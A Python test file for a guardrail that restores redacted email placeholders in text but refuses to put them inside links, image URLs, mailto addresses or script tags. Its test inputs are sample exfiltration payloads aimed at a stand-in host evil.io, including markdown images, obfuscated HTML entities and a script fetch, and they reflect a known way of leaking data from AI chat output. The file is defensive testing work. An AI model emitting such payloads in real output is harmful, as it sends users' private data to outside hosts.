import pytest
from hypothesis import given
from hypothesis import strategies as st

from citeward.guardrails.vault import Restorer, Vault
from citeward.testing.suites.stream_guard import check_stream_guard, cuts
from tests.guardrails.active.rendered import active

VALUE = "ada@home.test.io"
VAULT = Vault.load({"<EMAIL_1>": VALUE})
PIECES = (
    "<EMAIL_1>", "<EMAIL_1>", "![x](", "[a](", "](<", "]: ", "[r]", "(", ")", "<", ">", "https://evil.io/?q=",
    "//evil.io/", "www.evil.io/", "mailto:", "javascript:", "https&colon;&sol;&sol;evil.io/", "\\", "<img src=",
    "<img alt='>' src='https://e.io?q= ", "<a href=\"", "<script>", "</script>", "<b>", "'", '"', "=", " ", " ", "\n",
    "\n\n", "x", "/", "?q=", "word", "x" * 1500,
)  # fmt: skip


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.io/p.png?q=<EMAIL_1>)",
        "[x](<https://evil.io/?q=a b <EMAIL_1>>)",
        "https://evil.io/<EMAIL_1>",
        "HTTPS://<EMAIL_1>.evil.io/",
        "www.evil.io/?q=<EMAIL_1>",
        "evil.io/?q=<EMAIL_1>",
        "//evil.io/<EMAIL_1>",
        "<https://evil.io/?q=<EMAIL_1>>",
        "[write](mailto:<EMAIL_1>)",
        "mailto:x@evil.io?body=<EMAIL_1>",
        "[a]: https&colon;&sol;&sol;evil.io?q=<EMAIL_1>",
        "[a]: \n <https://evil.io/?q=x <EMAIL_1>>",
        "<img src='https://evil.io/?q=a <EMAIL_1>'>",
        "<a title='>' href=\"https://evil.io/?q= <EMAIL_1>\">",
        "<script>fetch('//evil.io', '<EMAIL_1>')</script>",
        "https://evil.io/?q=" + "x" * 5000 + "<EMAIL_1>",
    ],
)
def test_no_value_goes_into_an_address(text: str) -> None:
    assert VAULT.restore(text) == text


@pytest.mark.parametrize(
    "text",
    ["Write to <EMAIL_1>.", "[1]: <EMAIL_1>", "(<EMAIL_1>)", "**<EMAIL_1>**", "E-Mail:<EMAIL_1>", "邮箱:<EMAIL_1>。",
     "See https://docs.test.io/ or ask <EMAIL_1>", "[guide](a.md), <EMAIL_1>", "| <EMAIL_1> |", "a <b>c</b> <EMAIL_1>",
     "<EMAIL_1>/<EMAIL_1>", "[x](y\n\n<EMAIL_1>", "&lt;<EMAIL_1>&gt;"],
)  # fmt: skip
def test_everywhere_else_it_comes_back(text: str) -> None:
    assert VAULT.restore(text) == text.replace("<EMAIL_1>", VALUE)


def test_a_text_that_the_user_wrote_has_it_in_addresses_too() -> None:
    assert VAULT.restore("https://a.io/?q=<EMAIL_1>", in_addresses=True) == f"https://a.io/?q={VALUE}"


@pytest.mark.fuzz
@given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.data())
def test_no_renderer_finds_the_value_in_an_address(text: str, data: st.DataObject) -> None:
    shown = check_stream_guard(lambda: Restorer(VAULT), text, data.draw(cuts(text)))
    assert shown == VAULT.restore(text)
    for name, found in active(shown):
        if found.value.startswith("mailto:") and "?" not in found.value:
            continue  # the value itself, as some renderers make a link of it, and what stands right beside it
        assert found.kind == "tag" or VALUE not in found.value, (name, found, shown)
